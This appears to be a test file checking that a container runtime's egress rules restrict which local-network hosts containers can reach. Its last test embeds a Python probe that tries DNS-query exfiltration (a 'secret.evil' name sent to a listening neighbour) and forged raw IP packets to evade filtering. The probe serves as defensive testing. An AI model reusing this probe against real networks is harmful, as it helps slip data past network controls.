/** Egress policies towards a neighbour on the machine's network, and what a container on a bridge could do instead. */
import { Container, compose, Group, Image, Network, type RunOptions, run } from '../../lib/index.js'
import { imageRoots } from '../../lib/runtime/image/roots.js'
import { python } from '../support/attack.js'
import { busyboxImage } from '../support/busybox-image.js'
import { attempt, HERE, HERE6, Lan, noLan, SERVER, THERE, THERE6, until } from '../support/lan.js'
import { testIf } from '../support/needs.js'
import { storeImage } from '../support/store-images.js'

const it = testIf(noLan)
const lan = Lan.forTests()

/** A name server that answers everything, as somebody's who wants to hear what is in the names. */
const LISTENER = `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 53))
while True:
    q, client = s.recvfrom(4096); s.sendto(q[:2] + b"\\x81\\x80" + q[4:], client)
`

describe('an egress policy on a network', () => {
  let image: Image
  beforeAll(async () => {
    if (noLan) return
    for (const [where, text] of [
      ['here', 'host'],
      ['there', 'neighbour'],
    ] as const) {
      lan.background(where, SERVER(text, 80))
      lan.background(where, SERVER(text, 8080, 'AF_INET6'))
    }
    lan.background('there', ['python3', '-c', LISTENER])
    image = await Image.host()
    await until(
      () => lan.tries(`curl -s http://${HERE}/`) !== undefined && attempt(`curl -s http://${THERE}/`) !== undefined,
    )
    await until(() => attempt(`curl -s 'http://[${THERE6}]:8080/'`) !== undefined)
  })

  const fetch = async (url: string, options: RunOptions) => {
    const { stdout } = await run(image, ['curl', '-s', '-m', '5', url], options)
    return stdout.split(' ')[0]
  }
  const allow = (...rules: string[]): RunOptions => ({ egress: { allow: rules } })

  it('addresses of the network by rules for them, of both versions', async () => {
    expect(await fetch(`http://${THERE}/`, allow(`${THERE}:80`))).toBe('neighbour')
    expect(await fetch(`http://${THERE}/`, allow('192.168.0.0/16'))).toBe('neighbour')
    expect(await fetch(`http://[${THERE6}]:8080/`, allow(`[${THERE6}]:8080`))).toBe('neighbour')
    expect(await fetch(`http://[${THERE6}]:8080/`, allow('fd77::/64'))).toBe('neighbour')
    for (const rules of [allow(`${THERE}:81`), allow('0.0.0.0/0', '*', '::/0'), allow('192.168.78.0/24'), allow()]) {
      expect(await fetch(`http://${THERE}/`, rules)).toBe('')
      expect(await fetch(`http://[${THERE6}]:8080/`, rules)).toBe('')
    }
    expect(await fetch(`http://${THERE}/`, { network: 'bridge' })).toBe('neighbour')
  })

  it('of a group, whose members share it, and of a service of a compose file', async () => {
    const fetching = ['sh', '-c', `curl -s -m 5 http://${THERE}/; curl -s -m 5 http://${HERE}/ || echo none`]
    const containers = { a: { image, command: ['sleep', '600'] }, b: { image, command: ['sleep', '600'] } }
    await using group = await Group.create({ egress: { allow: [`${THERE}:80`] }, containers })
    await group.start()
    for (const name of ['a', 'b'])
      expect((await group.get(name).exec(fetching)).stdout).toMatch(/^neighbour .*none\n$/s)
    const loose = { ...containers, a: { ...containers.a, security: { privileged: true } } }
    await expect(Group.create({ egress: { allow: [] }, containers: loose })).rejects.toThrow('contradicts it')
    await storeImage((await imageRoots()).store, busyboxImage(), 'docker.io/library/box:latest')
    const wget = `for to in ${THERE} ${HERE}; do busybox wget -q -O - http://$$to/ || echo none; done`
    const services = { s: { image: 'box', command: ['sh', '-c', wget], 'x-egress': [`${THERE}:80`] } }
    const project = await compose({ services }, { projectName: 'out' })
    try {
      await project.up()
      const [made] = await Container.list({ labels: { 'com.docker.compose.project': 'out' } })
      const { stdout } = await (await Container.get(made?.id as string)).wait()
      expect(stdout).toMatch(/^neighbour .*none\n$/s)
      expect((await Network.list()).filter(({ name }) => name.startsWith('out'))).toEqual([])
    } finally {
      await project.down()
    }
  })

  it('the host among them only by its own address', async () => {
    expect(await fetch(`http://${HERE}/`, allow(HERE))).toBe('host')
    expect(await fetch(`http://[${HERE6}]:8080/`, allow(HERE6))).toBe('host')
    for (const rules of [allow('192.168.0.0/16', 'fd77::/64'), allow('0.0.0.0/0', '::/0')]) {
      expect(await fetch(`http://${HERE}/`, rules)).toBe('')
      expect(await fetch(`http://[${HERE6}]:8080/`, rules)).toBe('')
    }
  })

  it('nothing but connections: no echo, no questions in datagrams, no packets of one’s own making', async () => {
    const around = python(`import socket, struct
def heard(make):
    try:
        s = make(); s.settimeout(1.5); s.recv(2000); return "heard"
    except OSError: return "nothing"
def echo():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("${THERE}", 0)); return s
def question():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"\\1\\2\\1\\0\\0\\1" + bytes(6) + b"\\6secret\\4evil\\0\\0\\x10\\0\\1", ("${THERE}", 53)); return s
def forged():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    data = b"\\1\\2\\1\\0\\0\\1" + bytes(6) + b"\\6secret\\4evil\\0\\0\\x10\\0\\1"
    mine = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); mine.connect(("${THERE}", 53))
    address, port = mine.getsockname()
    udp = struct.pack(">HHHH", port, 53, 8 + len(data), 0) + data
    s.sendto(struct.pack(">BBHHHBBH4s4s", 69, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(address), socket.inet_aton("${THERE}")) + udp, ("${THERE}", 0))
    return mine
print(heard(echo), heard(question), heard(forged))`)
    const said = async (options: RunOptions) => (await run(image, around, options)).stdout.trim()
    expect(await said(allow('192.168.0.0/16', '*'))).toBe('nothing nothing nothing')
    expect(await said({ network: 'bridge' })).toBe('heard heard heard')
  })
})
